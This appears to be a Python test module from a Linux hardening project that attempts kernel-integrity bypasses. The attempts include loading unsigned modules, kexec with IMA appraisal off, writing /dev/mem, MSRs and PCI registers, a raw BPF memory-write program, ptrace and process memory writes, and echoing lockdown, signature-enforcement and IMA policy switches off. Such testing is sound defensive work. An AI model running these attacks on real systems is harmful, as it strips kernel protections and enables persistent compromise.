# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on the kernel itself: modules, kexec, memory, ports, BPF, and the policy once more."""

import ctypes
import errno
import fcntl
import lzma
import mmap
import os
import struct
import subprocess
import time
from pathlib import Path

from arena import attack, call, run, syscall
from labels import attackers_signature

NR_INIT_MODULE, NR_FINIT_MODULE, NR_KEXEC_LOAD, NR_KEXEC_FILE_LOAD, NR_BPF = 175, 313, 246, 320, 321
NR_PTRACE, NR_PROCESS_VM_WRITEV, NR_PIDFD_OPEN, NR_PIDFD_GETFD = 101, 311, 434, 438
MODULE = "dummy"                # small, in every Debian kernel, and nothing needs it
APPENDED = b"~Module signature appended~\n"
TSC_AUX = 0xC0000103            # a register whose rewriting changes nothing
TIOCGSERIAL, TIOCSSERIAL = 0x541E, 0x541F
IMA_POLICY = Path("/sys/kernel/security/ima/policy")


def module_path():
    """The module's file of the running kernel."""
    release = os.uname().release
    return next(Path(f"/lib/modules/{release}").rglob(f"{MODULE}.ko*"))


def unsigned_module():
    """The module's bytes without the distribution's signature: anybody could have built them."""
    path = module_path()
    data = path.read_bytes()
    if path.suffix == ".xz":
        data = lzma.decompress(data)
    if not data.endswith(APPENDED):
        return data
    length = int.from_bytes(data[-len(APPENDED) - 4:-len(APPENDED)], "big")
    return data[:-len(APPENDED) - 12 - length]


def loaded(scene):
    """Whether the module is in the kernel; takes it out again."""
    found = any(line.startswith(f"{MODULE} ") for line in Path("/proc/modules").read_text("ascii").splitlines())
    scene.say(f"{MODULE} is {'' if found else 'not '}loaded")
    run(["rmmod", MODULE])
    return found


def finit_module(path, flags=0):
    """Load a module by its descriptor."""
    fd = os.open(path, os.O_RDONLY)
    try:
        return syscall(NR_FINIT_MODULE, ctypes.c_long(fd), ctypes.c_char_p(b""), ctypes.c_long(flags))
    finally:
        os.close(fd)


@attack()
def module_unsigned(scene):
    """finit_module of an unsigned module's file."""
    scene.tried(finit_module, scene.file("dummy.ko", unsigned_module()))
    return loaded(scene)


@attack()
def module_with_stolen_labels(scene):
    """The same, with the labels of the signed module and the attacker's signature in turn."""
    path = scene.file("dummy.ko", unsigned_module())
    for name in os.listxattr(module_path()):
        os.setxattr(path, name, os.getxattr(module_path(), name))
    scene.tried(finit_module, path)
    if loaded(scene):
        return True
    attackers_signature(path)
    scene.tried(finit_module, path)
    return loaded(scene)


@attack()
def module_from_memory(scene):
    """init_module of the same bytes, without a file."""
    data = unsigned_module()
    scene.tried(syscall, NR_INIT_MODULE, ctypes.c_char_p(data), ctypes.c_long(len(data)), ctypes.c_char_p(b""))
    return loaded(scene)


@attack()
def module_from_an_anonymous_file(scene):
    """finit_module of a memfd."""
    fd = os.memfd_create("module", 0)
    os.write(fd, unsigned_module())
    scene.tried(finit_module, f"/proc/self/fd/{fd}")
    return loaded(scene)


@attack()
def module_compressed(scene):
    """A compressed unsigned module through insmod, which unpacks it first where the kernel does not."""
    path = scene.file("dummy.ko.xz", lzma.compress(unsigned_module(), check=lzma.CHECK_CRC32))
    scene.maybe(["insmod", str(path)])
    return loaded(scene)


@attack()
def module_in_its_place(scene):
    """The installed module replaced by an unsigned one, and modprobe."""
    path = module_path()
    data = unsigned_module()
    evil = scene.file("evil", lzma.compress(data, check=lzma.CHECK_CRC32) if path.suffix == ".xz" else data)
    kept = path.rename(path.with_suffix(".kept"))
    try:
        path.write_bytes(evil.read_bytes())
        for name in os.listxattr(kept):
            os.setxattr(path, name, os.getxattr(kept, name))
        scene.maybe(["modprobe", MODULE])
        return loaded(scene)
    finally:
        kept.rename(path)


@attack()
def kexec_from_memory(scene):
    """kexec_load, which takes memory and no file."""
    scene.maybe(["kexec", "-c", "-l", f"/boot/vmlinuz-{os.uname().release}", "--append=ima_appraise=off"])
    return unload_kexec(scene)


@attack()
def kexec_of_another_initramfs(scene):
    """kexec_file_load of the installed kernel with the attacker's initramfs and command line."""
    initramfs = scene.file("initrd", b"an initramfs of the attacker's")
    scene.maybe(["kexec", "-s", "-l", f"/boot/vmlinuz-{os.uname().release}", f"--initrd={initramfs}",
                 "--append=ima_appraise=off"])
    return unload_kexec(scene)


@attack()
def kexec_of_an_unsigned_kernel(scene):
    """kexec_file_load of a kernel that was changed in one byte."""
    data = bytearray(Path(f"/boot/vmlinuz-{os.uname().release}").read_bytes())
    data[-1] ^= 1
    scene.maybe(["kexec", "-s", "-l", str(scene.file("vmlinuz", bytes(data))), "--append=ima_appraise=off"])
    return unload_kexec(scene)


def unload_kexec(scene):
    """Whether a kernel waits to be started; takes it out again."""
    found = Path("/sys/kernel/kexec_loaded").read_text(encoding="ascii").strip() == "1"
    scene.maybe(["kexec", "-u"])
    return found


@attack()
def kernel_memory(scene):
    """/dev/mem opened for writing."""
    return scene.tried(os.open, "/dev/mem", os.O_RDWR)


@attack()
def hibernation_image(scene):
    """The device by which a hibernated kernel's image replaces the running one."""
    return scene.tried(os.open, "/dev/snapshot", os.O_WRONLY)


@attack()
def debugging_files(scene):
    """Any file of debugfs opened for writing."""
    for path in Path("/sys/kernel/debug").rglob("*"):
        if path.is_file() and os.stat(path).st_mode & 0o200:
            try:
                os.close(os.open(path, os.O_WRONLY))
                scene.say(path)
                return True
            except PermissionError as error:
                scene.say(error)
            except OSError:
                pass
        if len(scene.log) > 50:
            break
    return False


@attack()
def all_ports(scene):
    """iopl, which opens every I/O port."""
    return scene.tried(call, "iopl", 3) is not None


@attack()
def port_device(scene):
    """The CMOS memory written through /dev/port, or ioperm where there is none."""
    if os.path.exists("/dev/port"):
        return scene.tried(os.open, "/dev/port", os.O_RDWR)
    return scene.tried(call, "ioperm", ctypes.c_ulong(0x70), ctypes.c_ulong(2), 1) is not None


@attack()
def serial_port_anywhere(scene):
    """A serial line told to lie at other I/O ports, which the kernel then writes to."""
    fd = os.open("/dev/ttyS3", os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    state = bytearray(72)                       # struct serial_struct
    fcntl.ioctl(fd, TIOCGSERIAL, state)
    other = bytearray(state)
    struct.pack_into("I", other, 8, 0x2d0)      # .port
    done = scene.tried(fcntl.ioctl, fd, TIOCSSERIAL, other) is not None
    if done:
        fcntl.ioctl(fd, TIOCSSERIAL, state)
    os.close(fd)
    return done


@attack()
def processor_registers(scene):
    """A model-specific register of the processor written, with the value that it has."""
    scene.shell("modprobe msr")
    fd = os.open("/dev/cpu/0/msr", os.O_RDWR)
    return scene.tried(os.pwrite, fd, os.pread(fd, 8, TSC_AUX), TSC_AUX)


@attack()
def device_registers(scene):
    """A PCI device's configuration space written, from where it can be told to write memory."""
    path = next(Path("/sys/bus/pci/devices").glob("*/config"))
    fd = os.open(path, os.O_RDONLY)
    value = os.pread(fd, 1, 0x0c)
    os.close(fd)

    def write():
        with open(path, "r+b", buffering=0) as file:
            file.seek(0x0c)
            return file.write(value)
    return scene.tried(write)


@attack()
def device_memory(scene):
    """A PCI device's memory mapped through sysfs."""
    for path in sorted(Path("/sys/bus/pci/devices").glob("*/resource[0-9]")):
        try:
            with open(path, "r+b", buffering=0) as file, mmap.mmap(file.fileno(), 4096):
                return True
        except (OSError, ValueError) as error:
            scene.say(f"{path}: {error}")
    return False


@attack()
def bpf_writes_memory(scene):
    """A BPF program that writes into any process's memory (bpf_probe_write_user)."""
    code = b"".join(struct.pack("<BBhi", *i) for i in [
        (0xbf, 0xa1, 0, 0), (0x07, 0x01, 0, -8), (0xb7, 0x02, 0, 0), (0x7b, 0x2a, -8, 0),   # r1 = fp-8
        (0xbf, 0xa2, 0, 0), (0x07, 0x02, 0, -8), (0xb7, 0x03, 0, 8),                        # r2, r3 = 8
        (0x85, 0, 0, 36), (0xb7, 0, 0, 0), (0x95, 0, 0, 0)])                                # call; exit
    program, licence = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
    release = [int("".join(filter(str.isdigit, n)) or 0) for n in os.uname().release.split("-")[0].split(".")]
    version = (release[0] << 16) + (release[1] << 8) + min(release[2], 255)
    request = struct.pack("<IIQQIIQII", 2, len(code) // 8, ctypes.addressof(program),
                          ctypes.addressof(licence), 0, 0, 0, version, 0)
    words = ctypes.c_long(5), ctypes.c_char_p(request), ctypes.c_long(len(request))
    try:
        return scene.tried(syscall, NR_BPF, *words)
    except OSError as error:        # a kernel that is locked down has no such helper
        if error.errno != errno.EINVAL:
            raise
        return False


def sleeper():
    """A signed process of the attacker's own user, to be taken over; until it executes it shares our memory."""
    process = subprocess.Popen(["/bin/sleep", "600"])
    while Path(f"/proc/{process.pid}/comm").read_text(encoding="utf-8") != "sleep\n":
        time.sleep(0.01)
    return process


@attack("root", "user")
def process_traced(scene):
    """ptrace of a running signed process."""
    with sleeper() as process:
        try:
            arguments = (ctypes.c_long(n) for n in (16, process.pid, 0, 0))      # PTRACE_ATTACH
            return scene.tried(syscall, NR_PTRACE, *arguments) is not None
        finally:
            process.kill()


def stack_of(pid):
    """The start of another process's stack, as /proc tells the process itself's children."""
    for line in Path(f"/proc/{pid}/maps").read_text(encoding="utf-8").splitlines():
        if "[stack]" in line:
            return int(line.split("-")[1].split()[0], 16) - 64
    raise LookupError("no stack")


@attack("root", "user")
def process_memory_written(scene):
    """/proc/PID/mem of a running signed process written."""
    with sleeper() as process:
        try:
            fd = scene.tried(os.open, f"/proc/{process.pid}/mem", os.O_RDWR)
            return fd and scene.tried(os.pwrite, fd, b"evil", stack_of(process.pid))
        finally:
            process.kill()


@attack("root", "user")
def process_memory_called(scene):
    """process_vm_writev into a running signed process."""
    with sleeper() as process:
        try:
            data = ctypes.create_string_buffer(b"evil")
            here = struct.pack("<QQ", ctypes.addressof(data), 4)
            stack = scene.tried(stack_of, process.pid)
            there = struct.pack("<QQ", stack or 4096, 4)
            words = process.pid, here, 1, there, 1, 0
            words = [ctypes.c_char_p(w) if isinstance(w, bytes) else ctypes.c_long(w) for w in words]
            return scene.tried(syscall, NR_PROCESS_VM_WRITEV, *words)
        finally:
            process.kill()


@attack("root", "user")
def process_descriptor_taken(scene):
    """A descriptor of a running signed process taken by pidfd_getfd."""
    with sleeper() as process:
        try:
            pidfd = syscall(NR_PIDFD_OPEN, ctypes.c_long(process.pid), ctypes.c_long(0))
            words = (ctypes.c_long(n) for n in (pidfd, 1, 0))
            return scene.tried(syscall, NR_PIDFD_GETFD, *words) is not None
        finally:
            process.kill()


def switched(scene, path, *values):
    """Whether a switch of the kernel can be put to the first value after the others."""
    for value in (*values[1:], values[0]):
        scene.maybe(f"echo {value} > {path}")
    now = Path(path).read_text(encoding="ascii").strip()
    scene.say(f"{path}: {now}")
    return now == values[0]


@attack()
def ptrace_allowed_again(scene):
    """The ptrace scope put back to what it was without Assay."""
    return switched(scene, "/proc/sys/kernel/yama/ptrace_scope", "0")


@attack()
def kexec_allowed_again(scene):
    """kexec put back to allowed."""
    return switched(scene, "/proc/sys/kernel/kexec_load_disabled", "0")


@attack()
def bpf_allowed_again(scene):
    """BPF allowed for unprivileged users again."""
    return switched(scene, "/proc/sys/kernel/unprivileged_bpf_disabled", "0", "2")


@attack()
def modules_allowed_again(scene):
    """Module signatures put back to not enforced."""
    return switched(scene, "/sys/module/module/parameters/sig_enforce", "N")


@attack()
def lockdown_lifted(scene):
    """Kernel lockdown put back to none, also through another mount of securityfs."""
    place = scene.folder("security")
    scene.shell(f"mount -t securityfs x {place}")
    switched(scene, f"{place}/lockdown", "none")
    scene.shell(f"umount {place}")
    return "[none]" in Path("/sys/kernel/security/lockdown").read_text(encoding="ascii")


@attack()
def policy_loaded_again(scene):
    """Another policy, line by line and by its path, also through another mount of securityfs."""
    place = scene.folder("security")
    scene.shell(f"mount -t securityfs x {place}")
    rules = scene.file("policy", "dont_appraise\ndont_measure\n", 0o644)
    attackers_signature(rules)
    for path in (IMA_POLICY, place / "ima" / "policy"):
        scene.maybe(f"echo {rules} > {path}")
        scene.maybe(f"cat {rules} > {path}")
    scene.shell(f"umount {place}")
    return scene.runs(scene.payload("static"))


@attack()
def policy_node_made(scene):
    """The policy's node made anew where it was, and the kernel's own looked for elsewhere."""
    scene.maybe(f"touch {IMA_POLICY}; echo dont_appraise > {IMA_POLICY}")
    scene.maybe("mount -o remount,rw /sys/kernel/security && echo dont_appraise > /sys/kernel/security/ima/policy")
    scene.maybe("echo dont_appraise > /sys/kernel/security/integrity/ima/policy")
    return scene.runs(scene.payload("static"))
